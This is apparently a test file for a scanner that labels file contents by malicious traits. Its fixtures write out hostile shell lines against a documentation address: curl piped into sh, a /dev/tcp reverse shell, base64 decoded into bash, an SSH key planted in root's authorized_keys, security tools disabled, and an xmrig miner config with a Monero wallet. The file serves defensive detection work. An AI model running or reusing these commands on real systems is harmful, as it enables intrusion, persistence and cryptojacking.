import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { lookAtContent } from './traits.ts'

const wallet = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'
const config = '{ "donate-level": 1, "pools": [{ "url": "192.0.2.1:443", "nicehash": false, "keepalive": true }] }'

// Nothing here runs: hosts are documentation addresses, payloads are words.
const cases: readonly (readonly [name: string, text: string, runnable: boolean, traits: readonly string[]])[] = [
  ['curl into a shell', '#!/bin/sh\ncurl -fsSL http://192.0.2.1/a.sh | sh\n', true, ['script', 'download-execute']],
  ['a renamed tool', 'cd1 -fsSL http://192.0.2.1/b.sh | bash\n', true, ['script', 'download-execute']],
  [
    'the address in a variable',
    '#!/bin/sh\ncc="http://192.0.2.1"\nget="wget -q -O -"\n$get $cc/ldr.sh | bash &\n',
    true,
    ['script', 'download-execute'],
  ],
  ['process substitution', '#!/bin/bash\nbash <(wget -qO- http://192.0.2.1/x)\n', true, ['script', 'download-execute']],
  [
    'a fetched file that is run',
    '#!/bin/sh\nwget http://192.0.2.1/tool -O /tmp/.t\nchmod 777 /tmp/.t\n/tmp/.t &\n',
    true,
    ['script', 'download-execute'],
  ],
  [
    'all of it on one line',
    'curl http://192.0.2.1/a -o /tmp/a; chmod +x /tmp/a; /tmp/a\n',
    true,
    ['script', 'download-execute'],
  ],
  [
    'a fetched list that is only read',
    '#!/bin/sh\nwget -O /tmp/list http://192.0.2.1/list\ngrep -q x /tmp/list\n',
    true,
    ['script'],
  ],
  ['an address that ends like an original', '#!/bin/sh\necho www.freedesktop.org\n', true, ['script']],
  [
    'curl whose answer is only read',
    '#!/bin/sh\ncurl -fsS https://backup.example/ping | grep -q ok\n',
    true,
    ['script'],
  ],
  ['curl into a JSON printer', '#!/bin/sh\ncurl -s https://api.example/x | python3 -m json.tool\n', true, ['script']],
  ['curl into jq', '#!/bin/sh\ncurl -s https://api.example/x | jq .a | tee /var/log/x\n', true, ['script']],
  ['a comment about it', '#!/bin/sh\n# curl http://192.0.2.1/a.sh | sh\necho hi\n', true, ['script']],
  ['base64 into a shell', '#!/bin/sh\necho aGVsbG8= | base64 -d | bash\n', true, ['script', 'decode-execute']],
  ['base64 into a file', '#!/bin/sh\nbase64 -d < /etc/key.b64 > /etc/key\n', true, ['script']],
  ['a reverse shell', '#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/443 0>&1\n', true, ['script', 'reverse-shell']],
  ['a wrapper of ps', '#!/bin/bash\nps.original $@ | grep -v "ddns\\|httpd"\n', true, ['script', 'output-filter']],
  ['a wrapper that changes nothing', '#!/bin/sh\nexec /usr/bin/real-tool "$@"\n', true, ['script']],
  ['a watchdog', '#!/bin/sh\nwhile true; do\n pgrep x || /opt/x &\n sleep 5\ndone\n', true, ['script', 'watchdog']],
  ['flags set by a renamed tool', '#!/bin/sh\ntntrecht +ia /etc/cron.d/x\n', true, ['script', 'changes-attributes']],
  ['a copy with -a', '#!/bin/sh\ncp -a /srv/x /srv/y\n', true, ['script']],
  [
    'a key written',
    '#!/bin/sh\necho "ssh-rsa AAAA x" >> /root/.ssh/authorized_keys\n',
    true,
    ['script', 'writes-persistence'],
  ],
  [
    'rivals killed',
    "#!/bin/sh\nps aux | grep xmrig | awk '{print $2}' | xargs kill -9\n",
    true,
    ['script', 'kills-rivals'],
  ],
  ['an agent uninstalled', '#!/bin/sh\nrm -rf /usr/local/aegis\n', true, ['script', 'removes-security']],
  ['one firewall switched off', '#!/bin/sh\nufw disable\n', true, ['script']],
  ['everything switched off', '#!/bin/sh\nsetenforce 0\nufw disable\n', true, ['script', 'removes-security']],
  ['a configuration of xmrig', config, false, ['text', 'json', 'miner-config']],
  ['one within a script', `#!/bin/sh\ncat > c <<E\n${config}\nE\n`, true, ['script', 'miner-config']],
  [
    'its keys in a report',
    `The keys are "donate-level", "pools", "nicehash", "keepalive".\n${'More words.\n'.repeat(9)}`,
    false,
    ['text'],
  ],
  [
    'a report that quotes a dropper',
    'The script ran:\n\n    curl http://192.0.2.1/a.sh | sh\n\nand stratum+tcp://x:3333 with\nxmrig --donate-level 1.\n',
    false,
    ['text'],
  ],
  ['a Monero wallet', `pool=192.0.2.1\nuser=${wallet}\n`, false, ['text', 'wallet']],
  ['one letter wrong', `pool=192.0.2.1\nuser=${wallet.slice(0, -1)}B\n`, false, ['text']],
  [
    'a picture with a script behind it',
    `\x89PNG\r\n\x1a\n\0\0${'\x07'.repeat(50)}\n#!/bin/bash\necho\n`,
    false,
    ['image', 'polyglot'],
  ],
  ['nothing', '', false, ['empty']],
  ['settings of a web server', 'worker = 4\nlisten = 127.0.0.1\n[log]\nlevel = info\n', false, ['text']],
]

for (const [name, text, runnable, traits] of cases) {
  test(name, () => {
    const bytes = Buffer.from(text, 'latin1')
    assert.deepEqual(lookAtContent({ bytes, size: bytes.length, runnable }).traits, traits)
  })
}

/** A program of that many bytes with no sections, by the layout of elf(5). */
function program(size: number, noise: (at: number) => number): Buffer {
  const bytes = Buffer.alloc(size)
  for (let at = 64; at < size; at++) bytes[at] = noise(at)
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]).copy(bytes)
  bytes.writeUInt16LE(2, 16)
  bytes.writeBigUInt64LE(64n, 32)
  bytes.writeBigUInt64LE(0n, 40)
  bytes.writeUInt16LE(56, 54)
  bytes.writeUInt16LE(1, 56)
  bytes.writeBigUInt64LE(0n, 64 + 8)
  bytes.writeBigUInt64LE(BigInt(size), 64 + 32)
  return bytes
}

test('a program without sections that looks like noise is packed, one of zeros is not', () => {
  const noisy = program(100_000, at => Math.imul(at, 2_654_435_761) >>> 19)
  assert.deepEqual(lookAtContent({ bytes: noisy, size: noisy.length, runnable: true }).traits, [
    'elf',
    'stripped-sections',
    'packed',
  ])
  const plain = program(100_000, () => 0)
  assert.deepEqual(lookAtContent({ bytes: plain, size: plain.length, runnable: true }).traits, [
    'elf',
    'stripped-sections',
  ])
})

test('two words of miners in a program are its strings, one is not', () => {
  const bytes = program(5_000, () => 0)
  bytes.write('XMRig/6.0', 1_000)
  assert.ok(!lookAtContent({ bytes, size: 5_000, runnable: true }).traits.includes('miner-strings'))
  bytes.write('--donate-level', 2_000)
  assert.ok(lookAtContent({ bytes, size: 5_000, runnable: true }).traits.includes('miner-strings'))
})

test('random and mutated bytes are looked at without error and soon', () => {
  const seeds = cases.map(([, text]) => Buffer.from(text, 'latin1'))
  const mutated = fc
    .tuple(fc.constantFrom(...seeds), fc.nat(4_000), fc.uint8Array({ maxLength: 64 }))
    .map(([seed, at, noise]) => {
      const cut = Math.min(at, seed.length)
      return Buffer.concat([seed.subarray(0, cut), noise, seed.subarray(cut)])
    })
  const random = fc.uint8Array({ maxLength: 3_000 }).map(bytes => Buffer.concat([Buffer.from('\x7fELF'), bytes]))
  fc.assert(
    fc.property(fc.oneof(mutated, random), fc.boolean(), (bytes, runnable) => {
      lookAtContent({ bytes, size: bytes.length, runnable })
    }),
    { numRuns: 300 },
  )
})

test('long lines that nearly match cost little', () => {
  const started = performance.now()
  for (const piece of [
    'curl http://x ',
    '| ',
    '$@ | ',
    'sh -c "$(',
    'printf "\\x41',
    'eval ',
    '/dev/tcp/',
    'a=b; ',
    'echo > ',
  ]) {
    const bytes = Buffer.from(
      `#!/bin/sh\n${piece.repeat(Math.ceil(400_000 / piece.length))}\n${`${piece.repeat(300)}\n`.repeat(40)}`,
    )
    lookAtContent({ bytes, size: bytes.length, runnable: true })
  }
  assert.ok(performance.now() - started < 4_000)
})
